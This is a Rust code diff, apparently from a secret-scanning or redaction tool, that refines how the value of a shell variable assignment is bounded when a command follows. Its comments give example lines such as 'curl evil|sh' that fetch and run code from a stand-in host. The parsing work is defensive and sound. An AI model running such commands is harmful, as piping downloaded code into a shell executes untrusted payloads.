@@ -346,13 +346,28 @@ fn assigned(text: &[u8]) -> Option<Range<usize>> {
         // `A_TOKEN=x;curl evil|sh` is a line of a shell: what follows is no part of the value.
         let rest = &text[at + 1..];
         let line = memchr::memchr(b' ', rest).and_then(|_| memchr::memchr3(b';', b'|', b'&', rest));
-        let end = line.map_or(text.len(), |sign| at + 1 + sign);
+        let mut end = line.map_or(text.len(), |sign| at + 1 + sign);
+        // `A_TOKEN=x curl -s evil/m`: a variable of the command that follows.
+        if name.as_ptr() == text.as_ptr()
+            && !matches!(rest.first(), Some(b'"' | b'\''))
+            && let Some(space) = memchr::memchr(b' ', &text[at + 1..end])
+            && is_command(&text[at + 1 + space..end])
+        {
+            end = at + 1 + space;
+        }
         let value = super::ends::unquoted(text, at + 1..end);
         // A script is a text of its own.
         let is_text = memchr::memchr(b'\n', &text[value.clone()]).is_some();
         return (!is_text && is_value(&text[value.clone()])).then_some(value);
     }
     None
+}
+
+/// Whether what follows a space is a command with arguments rather than more of a pass phrase.
+fn is_command(rest: &[u8]) -> bool {
+    memchr::memchr3(b'/', b':', b'|', rest).is_some()
+        || memchr::memmem::find(rest, b" -").is_some()
+        || rest.trim_ascii().split(|b| *b == b' ').next().is_some_and(runs_a_program)
 }
 
 /// What a command printed that is piped into the next one.
